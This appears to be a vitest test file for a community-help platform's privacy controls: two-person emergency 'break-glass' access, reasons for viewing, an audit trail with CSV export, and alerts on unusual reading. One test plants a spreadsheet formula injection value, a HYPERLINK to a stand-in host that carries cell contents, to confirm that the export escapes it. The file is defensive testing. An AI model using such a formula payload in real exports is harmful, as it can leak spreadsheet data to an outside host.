import { describe, expect, it } from 'vitest'
import { aCast, ask, type Cast, refused, worked } from '../../../test/support/cast.ts'
import { useHouse } from '../../../test/support/house.ts'
import { actorForSession } from '../../actor.ts'
import { listAuditLines } from '../../platform/audit/audit.ts'
import type { Actor } from '../../platform/auth/actor.ts'
import { startSession } from '../../platform/auth/session.ts'
import { perform } from '../../platform/command.ts'
import { houseActor } from '../../platform/db/database.ts'
import { addMember } from '../organisations/index.ts'
import { addAccount, findPerson } from '../people/index.ts'
import { bearerOf, listLooksAtPerson } from '../requests/index.ts'
import { aVisitor, type Visitor } from '../requests/testing.ts'
import { usualNumbers } from './alerts/reading-numbers.ts'
import { type Reading, unusualIn } from './alerts/unusual.ts'
import { watchReading } from './alerts/watch-reading-job.ts'
import { approveBreakGlass, askBreakGlass, endBreakGlass, tellResidentOfBreakGlass } from './break-glass/break-glass.ts'

const house = useHouse()

const member = async (cast: Cast, name: string, roles: readonly string[], organisationId = cast.hub) => {
  const { db } = house.platform
  const account = { name, email: `${name.toLowerCase().replace(' ', '.')}@example.org`, password: 'a long password' }
  const { personId } = worked(await perform(db, houseActor(cast.placeId), addAccount, account))
  worked(await perform(db, houseActor(cast.placeId), addMember, { organisationId, personId, roles: [...roles] }))
  return db.asHouse(cast.placeId, async tx => {
    const actor = await actorForSession(tx, { personId, organisationId })
    if (!actor) throw new Error('no actor')
    return { actor, personId, token: await startSession(tx, { personId, organisationId }) }
  })
}

const visitor = (token: string): Visitor => {
  const made = aVisitor(() => house.web)
  made.cookies.set('session', token)
  return made
}

/** A place with a data protection lead, somebody of the kitchen who may see nobody, and a resident. */
const aScene = async () => {
  house.setClock('2026-11-16T10:00:00Z')
  const cast = await aCast(house)
  const lead = await member(cast, 'Dana', ['data protection lead'])
  const caller = await member(cast, 'Kit', ['call handler'], cast.kitchen)
  const made = await ask(house, cast)
  return { cast, lead, caller, made, base: `/${cast.slug}` }
}

const sees = (actor: Actor, personId: string) =>
  house.platform.db.as(actor, async tx => (await findPerson(tx, personId))?.name ?? null)

const looks = (cast: Cast, personId: string) =>
  house.platform.db.asHouse(cast.placeId, tx => listLooksAtPerson(tx, personId))

const told = (cast: Cast) =>
  house.platform.db.asHouse(cast.placeId, async tx =>
    (
      await tx.sql<{ line: string }[]>`
          select to_address || ': ' || subject || ' ' || body as line from platform.notice where place_id = ${tx.placeId} and sent_for like any ('{break-glass%,unusual%}') order by created_at, to_address`
    ).map(({ line }) => line),
  )

const reason = 'She fell and nobody knows where she lives.'

describe('opening in an emergency', () => {
  it('takes a second person, lasts an hour, and is read by the resident with its reason', async () => {
    const { cast, lead, caller, made, base } = await aScene()
    const kit = visitor(caller.token)
    await kit.open(`${base}/break-glass`)
    await kit.press('Ask a second person', { askedFor: made.reference, reason })
    expect(kit.words()).toContain('Waits for a second person')
    expect(await sees(caller.actor, made.personId)).toBeNull()
    expect((await told(cast)).map(line => [line.includes('dana@'), /Nowak|fell/.test(line)])).toEqual([[true, false]])
    const dana = visitor(lead.token)
    await dana.open(`${base}/break-glass`)
    await dana.follow('Asked by Kit')
    expect(dana.words()).toContain('We found one person by this')
    expect(dana.words()).not.toContain('Halina Nowak')
    await dana.press('Decide', { do: 'approve' })
    await kit.open(`${base}/break-glass`)
    await kit.follow('Asked by Kit')
    expect(kit.words()).toMatch(/Halina Nowak.*12 Mill Row.*My husband died in March/)
    expect(await sees(caller.actor, made.personId)).toBe('Halina Nowak')
    const read = await looks(cast, made.personId)
    expect(read.map(({ who, did, why }) => [who, did, why])).toContainEqual([
      'Kit (Kitchen)',
      'opened these details in an emergency',
      reason,
    ])
    expect(read.map(({ who }) => who)).toContain('Dana (Hub)')
    house.advance({ minutes: 61 })
    expect(await sees(caller.actor, made.personId)).toBeNull()
    await kit.open(kit.at.path)
    expect(kit.words()).not.toContain('Halina Nowak')
    expect(kit.words()).toContain('Closed again')
  })

  it('is not approved by whoever asked, not twice, not a day later, and not for nobody', async () => {
    const { cast, lead, made } = await aScene()
    const { db } = house.platform
    const asked = worked(await perform(db, cast.amira, askBreakGlass, { askedFor: made.reference, reason }))
    const approve = (actor: Actor, breakGlassId = asked.breakGlassId) =>
      perform(db, actor, approveBreakGlass, { breakGlassId, heldBecause: null })
    expect(refused(await approve(cast.amira)).refused).toBe('needs-a-second-person')
    worked(await approve(lead.actor))
    expect(refused(await approve(lead.actor)).refused).toBe('somebody-else')
    const nobody = worked(await perform(db, cast.amira, askBreakGlass, { askedFor: 'ZZZ-ZZZ', reason }))
    expect(refused(await approve(lead.actor, nobody.breakGlassId)).refused).toBe('nobody-found')
    const late = worked(await perform(db, cast.amira, askBreakGlass, { askedFor: made.reference, reason }))
    house.advance({ hours: 24, minutes: 1 })
    expect(refused(await approve(lead.actor, late.breakGlassId)).refused).toBe('too-late')
  })

  it('finds somebody by a name and a number, and says to whoever asks nothing of whether it did', async () => {
    const { lead, caller } = await aScene()
    const { db } = house.platform
    const found = []
    for (const askedFor of ['Halina Nowak, 020 7946 0123', 'Nobody Known, 020 7946 0999']) {
      const asked = worked(await perform(db, caller.actor, askBreakGlass, { askedFor, reason }))
      const answer = await perform(db, lead.actor, approveBreakGlass, {
        breakGlassId: asked.breakGlassId,
        heldBecause: null,
      })
      found.push('refused' in answer ? answer.refused : 'opened')
    }
    expect(found).toEqual(['opened', 'nobody-found'])
  })

  it('is closed early by one press, and sees nobody else’s', async () => {
    const { cast, lead, caller, made, base } = await aScene()
    const { db } = house.platform
    const asked = worked(await perform(db, caller.actor, askBreakGlass, { askedFor: made.reference, reason }))
    worked(await perform(db, lead.actor, approveBreakGlass, { breakGlassId: asked.breakGlassId, heldBecause: null }))
    worked(await perform(db, caller.actor, endBreakGlass, { breakGlassId: asked.breakGlassId }))
    expect(await sees(caller.actor, made.personId)).toBeNull()
    const other = await member(cast, 'Lou', ['call handler'], cast.drivers)
    const lou = visitor(other.token)
    await lou.open(`${base}/break-glass/${asked.breakGlassId}`)
    expect(lou.at.status).toBe(404)
  })

  it('is kept from the resident while it is held back, and told when that ends', async () => {
    const { cast, lead, caller, made, base } = await aScene()
    const { db } = house.platform
    const asked = worked(await perform(db, caller.actor, askBreakGlass, { askedFor: made.reference, reason }))
    const heldBecause = 'Her nephew reads what she gets.'
    worked(await perform(db, lead.actor, approveBreakGlass, { breakGlassId: asked.breakGlassId, heldBecause }))
    const kit = visitor(caller.token)
    await kit.open(`${base}/break-glass/${asked.breakGlassId}`)
    expect(kit.words()).toContain('Halina Nowak')
    expect(kit.words()).not.toContain('nephew')
    const emergency = async () =>
      (await looks(cast, made.personId)).filter(({ did }) => did.includes('emergency')).length
    expect(await emergency()).toBe(0)
    expect((await looks(cast, made.personId)).filter(({ who }) => who.includes('Kit'))).toEqual([])
    const lines = await db.asHouse(cast.placeId, tx => listAuditLines(tx, [asked.breakGlassId]))
    expect(lines.map(({ action }) => action)).toContain('opened in an emergency')
    worked(await perform(db, lead.actor, tellResidentOfBreakGlass, { breakGlassId: asked.breakGlassId }))
    expect(await emergency()).toBe(1)
  })
})

describe('a reason to look', () => {
  it('is asked before somebody is shown of whom nothing is open, kept beside the look, and read by them', async () => {
    const { cast, made, base } = await aScene()
    const amira = visitor(cast.cookies.amira.replace('session=', ''))
    await amira.open(`${base}/people/${made.personId}`)
    expect(amira.words()).toContain('Halina Nowak')
    await house.platform.db.asHouse(cast.placeId, async tx => {
      await tx.sql`update requests.help_request set state = 'closed', closed_at = ${tx.now} where place_id = ${tx.placeId} and help_request_id = ${made.helpRequestId}`
      await tx.sql`update requests.need set state = 'closed', closed_at = ${tx.now}, closing_reason = 'helped' where place_id = ${tx.placeId} and help_request_id = ${made.helpRequestId}`
    })
    await amira.open(`${base}/people/${made.personId}`)
    expect(amira.words()).toContain('Halina Nowak')
    house.advance({ days: 15 })
    for (const path of [`/people/${made.personId}`, `/requests/${made.helpRequestId}`, `/needs/${made.needIds[0]}`]) {
      const again = visitor(
        await house.platform.db.asHouse(cast.placeId, tx =>
          startSession(tx, { personId: cast.amira.personId ?? '', organisationId: cast.hub }),
        ),
      )
      const before = (await looks(cast, made.personId)).length
      await again.open(`${base}${path}`)
      expect(again.words()).toContain('Why do you look at this person?')
      expect(again.words()).not.toContain('Nowak')
      expect(await looks(cast, made.personId)).toHaveLength(before)
      await again.press('Look', {})
      expect(again.errors()).toEqual(['Choose why you look'])
      await again.press('Look', { why: 'other', words: '' })
      expect(again.errors()).toEqual(['Say in a few words why you look'])
      await again.press('Look', { why: 'complaint', words: 'She wrote to us' })
      expect(again.words()).toContain('Halina Nowak')
      expect(again.at.path).toContain(path)
      const last = (await looks(cast, made.personId)).at(-1)
      expect([last?.did, last?.why]).toEqual([
        'looked at who needs help and how to reach them',
        'A complaint or a question about what was done: She wrote to us',
      ])
      house.advance({ hours: 2 })
    }
  })
})

describe('the audit trail, for the data protection lead', () => {
  it('is found by who looked, at whom and when, and is itself written down', async () => {
    const { cast, lead, made, base } = await aScene()
    await sees(cast.amira, made.personId)
    const dana = visitor(lead.token)
    const rows = async (typed: Record<string, string>) => {
      await dana.open(`${base}/audit`)
      await dana.press('Show', typed)
      for (const value of [typed.who, typed.about])
        if (value) expect(decodeURIComponent(dana.at.path)).not.toContain(value)
      return (dana.at.html.match(/<tr/g) ?? []).length - 1
    }
    expect(await rows({ who: 'ami' })).toBeGreaterThan(0)
    expect(dana.words()).toMatch(/Amira\s*Hub\s*looked at who and where/)
    expect(dana.words()).not.toContain('Halina')
    expect(await rows({ about: made.reference.toLowerCase() })).toBeGreaterThan(1)
    expect(await rows({ about: made.personId, from: '2026-11-16', until: '2026-11-16' })).toBeGreaterThan(0)
    const found = dana.at.path
    expect(await rows({ about: made.personId, until: '2026-11-15' })).toBe(-1)
    expect(await rows({ about: 'ZZZ-ZZZ' })).toBe(-1)
    expect(await rows({ who: '%', from: 'x', until: '2026-99-99' })).toBe(-1)
    expect(await rows({ who: 'dana' })).toBeGreaterThan(0)
    const kit = visitor(cast.cookies.amira.replace('session=', ''))
    await kit.open(`${base}/audit`)
    expect(kit.at.status).toBe(403)
    // In the browser's history it is a search for a day, and for whoever typed it alone.
    await dana.open(found)
    expect(dana.at.html).toContain(`value="${made.personId}"`)
    house.advance({ hours: 13 })
    await dana.open(found)
    expect(dana.at.html).not.toContain(`value="${made.personId}"`)
  })

  it('is a file that no spreadsheet takes for formulas', async () => {
    const { cast, caller, lead, base } = await aScene()
    worked(
      await perform(house.platform.db, caller.actor, askBreakGlass, {
        askedFor: 'ZZZ-ZZZ',
        reason: '=HYPERLINK("http://x.example/?"&A1) "now"',
      }),
    )
    const dana = visitor(lead.token)
    await dana.open(`${base}/audit`)
    await dana.press('Show', { who: 'kit' })
    const file = await house.web.inject({
      url: dana.at.path.replace('/audit', '/audit.csv'),
      headers: { cookie: `session=${lead.token}` },
    })
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(file.body).toContain(`"'=HYPERLINK(""http://x.example/?""&A1) ""now"""`)
    expect(cast.slug).toBeTruthy()
  })
})

describe('unusual reading', () => {
  const ordinary: Reading = {
    readerId: 'x',
    opened: ['a', 'b'],
    usualInAnHour: 2,
    nightsBefore: 0,
    isNight: false,
    alike: [],
    daysWithoutNeed: 1,
  }
  const many = (n: number) => Array.from({ length: n }, (_, at) => String(at))
  it.each([
    ['ordinary work', ordinary, []],
    ['many people for somebody who always reads many', { ...ordinary, opened: many(40), usualInAnHour: 12 }, []],
    ['four times as many as usual', { ...ordinary, opened: many(40), usualInAnHour: 10 }, ['many people']],
    ['many on the first day', { ...ordinary, opened: many(21), usualInAnHour: null }, ['many people']],
    ['one at night', { ...ordinary, isNight: true }, []],
    ['five at night', { ...ordinary, isNight: true, opened: many(5) }, ['at night']],
    ['five at night on a night shift', { ...ordinary, isNight: true, opened: many(5), nightsBefore: 3 }, []],
    ['a neighbour', { ...ordinary, alike: ['the same address' as const] }, ['somebody like them']],
    ['the same person on three days', { ...ordinary, daysWithoutNeed: 3 }, ['again without a need']],
  ] as const)('tells %s', (_, reading, found) => {
    expect(unusualIn(reading, usualNumbers).map(({ rule }) => rule)).toEqual(found)
  })

  it('is told to those who answer for it and not to whoever read, once a day, and closed with words', async () => {
    const { cast, lead, base } = await aScene()
    for (let one = 0; one < 22; one += 1) {
      const { personId } = await ask(house, cast, {
        person: {
          name: `Somebody ${'ABCDEFGHIJKLMNOPQRSTUVWXYZ'[one]}xy`,
          phone: `020 7946 01${10 + one}`,
          email: null,
          contactBy: 'phone',
          address: `${one} Long Lane`,
          postcode: 'ZZ1 4AB',
          position: null,
          neighbourhoodId: null,
          neighbourhoodName: null,
          communicationNeeds: null,
        },
      })
      await sees(cast.amira, personId)
    }
    await watchReading(house.platform, cast.placeId)
    await watchReading(house.platform, cast.placeId)
    expect(await told(cast)).toEqual([expect.stringMatching(/^dana@example.org: Something is unusual/)])
    const amira = visitor(cast.cookies.amira.replace('session=', ''))
    await amira.open(`${base}/unusual-reading`)
    expect(amira.words()).toContain('Nothing unusual waits')
    const dana = visitor(lead.token)
    await dana.open(`${base}/unusual-reading`)
    expect(dana.words()).toMatch(/Many people’s details in one hour: Amira, Hub Opened 22 people’s details/)
    expect(dana.words()).not.toContain('Somebody A')
    await dana.press('Write it down', { words: '' })
    expect(dana.errors()).toEqual(['Write down in a few words what it was'])
    await dana.press('Write it down', { words: 'The list of the week, worked through.' })
    expect(dana.words()).toMatch(/Nothing unusual waits.*Looked at.*Dana: The list of the week/)
  })

  it('is told from the numbers of the place, which the lead changes with a reason and takes back', async () => {
    const { cast, lead, made, base } = await aScene()
    const dana = visitor(lead.token)
    await dana.open(`${base}/unusual-reading`)
    await dana.follow('From when reading is unusual')
    expect(dana.words()).toContain('Nobody has changed this yet')
    await dana.press('Save these numbers', { nightFrom: '9', because: 'x' })
    expect(dana.errors()).toEqual(['The night begins at: enter a whole number from 18 to 23'])
    await dana.open(`${base}/unusual-reading/rules`)
    await dana.press('Save these numbers', { because: 'Nothing' })
    expect(dana.errors()).toEqual(['These numbers count already: change at least one.'])
    await dana.open(`${base}/unusual-reading/rules`)
    await dana.press('Save these numbers', { peopleAtNight: '1', nightUntil: '8', because: 'We are small' })
    expect(dana.words()).toMatch(/Saved.*People in an hour of the night: 5, then 1.*We are small/)
    house.setClock('2026-11-17T07:30:00Z')
    await sees(cast.amira, made.personId)
    await watchReading(house.platform, cast.placeId)
    expect(await told(cast)).toHaveLength(1)
    const again = visitor(
      await house.platform.db.asHouse(cast.placeId, tx =>
        startSession(tx, { personId: lead.personId, organisationId: cast.hub }),
      ),
    )
    await again.open(`${base}/unusual-reading/rules?done=saved`)
    await again.press('Undo', {})
    expect(again.words()).toMatch(/Taken back.*The last change was taken back/)
    await again.press('Save these numbers', { daysWithoutNeed: '2', because: 'To see it sooner' })
    await again.press('Back to what every place starts with', {})
    expect(again.words()).toContain('Back to what every place starts with.')
    const amira = visitor(
      await house.platform.db.asHouse(cast.placeId, tx =>
        startSession(tx, { personId: cast.amira.personId ?? '', organisationId: cast.hub }),
      ),
    )
    await amira.open(`${base}/unusual-reading/rules`)
    expect(amira.words()).toContain('The data protection lead changes these numbers.')
    const forced = await house.web.inject({
      method: 'POST',
      url: `${base}/unusual-reading/rules`,
      headers: { cookie: cast.cookies.amira, 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'replaces=3&because=x&peopleInAnHour=200',
    })
    expect([303, 403]).toContain(forced.statusCode)
  })

  it('finds somebody who shares the reader’s number', async () => {
    const { cast, lead, caller, made, base } = await aScene()
    await house.platform.db.asHouse(cast.placeId, async tx => {
      await tx.sql`update people.person set phone = '020 7946 0123', name = 'Ben Nowak' where place_id = ${tx.placeId} and person_id = ${cast.amira.personId}`
    })
    await sees(cast.amira, made.personId)
    await watchReading(house.platform, cast.placeId)
    const dana = visitor(lead.token)
    await dana.open(`${base}/unusual-reading`)
    expect(dana.words()).toContain('Opened somebody who has the same phone number, the same surname as they have.')
    expect(caller.personId).toBeTruthy()
  })
})

describe('the resident', () => {
  it('is told who looked with their organisation, and nothing of what the house did', async () => {
    const { cast, made } = await aScene()
    await sees(cast.amira, made.personId)
    const read = await looks(cast, made.personId)
    expect(read.map(({ who }) => who)).toContain('Amira (Hub)')
    expect(read.some(({ who }) => who.includes('Keep it Local'))).toBe(false)
    const asResident = await house.platform.db.as(bearerOf(cast.placeId, made.helpRequestId), tx =>
      listAuditLines(tx, [made.personId]),
    )
    expect(asResident.length).toBeGreaterThan(0)
  })
})
